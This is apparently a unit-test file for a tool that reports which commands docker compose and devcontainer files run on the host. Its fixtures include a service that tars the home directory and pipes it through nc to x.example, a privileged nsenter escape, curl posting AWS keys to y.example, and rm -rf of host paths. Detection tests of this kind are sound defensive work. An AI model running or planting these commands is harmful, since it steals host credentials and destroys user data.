"""Files about containers: what reaches the machine that starts them."""

from __future__ import annotations

import pytest

from tests.unit.shell.following.recipe_files.project_kit import commands_in, places_in

_COMPOSE = """\
services:
  web:
    build: .
    command: sh -c "rm -rf /tmp/x && npm start"
    volumes: [".:/app", "data:/data"]
    depends_on: [proxy]
  proxy:
    image: traefik
    command: --providers.docker
    volumes: ["/var/run/docker.sock:/var/run/docker.sock:ro"]
  thief:
    image: alpine
    command: ["sh", "-c", "tar c /host | nc x.example 80"]
    volumes:
      - {type: bind, source: "${HOME}", target: /host}
  breaker:
    image: alpine
    privileged: true
    entrypoint: /bin/bash
    command: -c "nsenter -t 1 -m"
volumes: {data: {}}
"""


def test_a_command_with_the_files_of_the_machine_is_told_as_docker_would_be() -> None:
    found = commands_in({"compose.yaml": _COMPOSE}, "docker compose up thief")
    assert "docker run -v /home/no-one:/host image sh -c tar c /host | nc x.example 80" in found


def test_a_privileged_command_is_told_as_docker_would_be() -> None:
    found = commands_in({"compose.yaml": _COMPOSE}, "docker-compose up -d breaker")
    assert found[0].startswith("docker run --privileged --entrypoint /bin/bash image -c")


@pytest.mark.parametrize(
    "command", ["rm -rf /host/root", "[chown, -R, '0', /host/etc]", "busybox rm -rf /host"]
)
def test_a_program_that_takes_files_is_told_where_it_has_those_of_the_machine(command: str) -> None:
    text = f"services: {{a: {{image: x, volumes: ['/:/host'], command: {command}}}}}"
    assert commands_in({"compose.yml": text}, "docker compose up")
    assert commands_in({"compose.yml": text.replace("/:/host", "data:/host")}, "docker compose up") == []


@pytest.mark.parametrize(
    "line",
    ["docker compose up -d web", "docker compose up proxy", "docker compose build", "docker compose ps"],
)
def test_what_stays_in_its_container_is_not_told(line: str) -> None:
    assert commands_in({"compose.yaml": _COMPOSE}, line) == []


def test_keys_that_a_container_uses_are_told_where_its_command_sends_something() -> None:
    text = "services: {a: {image: x, volumes: ['~/.aws:/root/.aws'], command: sh -c 'NEXT'}}"
    assert commands_in({"compose.yml": text.replace("NEXT", "npm start")}, "docker compose up") == []
    assert commands_in(
        {"compose.yml": text.replace("NEXT", "curl -d @/root/.aws/x y.example")}, "docker compose up"
    )


def test_the_command_of_a_run_takes_the_place_of_the_one_in_the_file() -> None:
    found = commands_in({"compose.yaml": _COMPOSE}, "docker compose run proxy sh -c 'docker ps'")
    assert any(each.startswith("docker run -v /var/run/docker.sock") for each in found)


def test_all_services_start_where_none_is_named_and_the_file_may_be_fed() -> None:
    assert len(commands_in({"x.yml": _COMPOSE}, "docker compose -f x.yml up")) > 1
    line = f"docker-compose -f - up <<'END'\n{_COMPOSE}END\n"
    assert any(each.startswith("docker run -v /home/no-one:/host") for each in commands_in({}, line))


def test_services_of_files_that_are_included_or_extended_start_too() -> None:
    files = {"compose.yml": "include: [a.yml]\nservices: {x: {extends: {file: b.yml, service: thief}}}",
             "a.yml": _COMPOSE, "b.yml": _COMPOSE.replace("/host", "/other")}  # fmt: skip
    found = [each for each in commands_in(files, "docker compose up") if each.startswith("docker run -v")]
    assert [each.split()[3] for each in found] == ["/home/no-one:/host", "/home/no-one:/other"]


def test_a_development_container_runs_a_command_on_the_machine_first() -> None:
    text = '{ // dev\n"initializeCommand": {"a": "rm -rf ~", "b": ["ls", "x y"]}, "postCreateCommand": "ls"}'
    files = {".devcontainer/devcontainer.json": text}
    assert places_in(files, "devcontainer up --workspace-folder .") == [
        ("rm -rf /home/no-one", ""),
        ("ls x y", ""),
    ]
    assert commands_in(files, "devcontainer read-configuration") == []
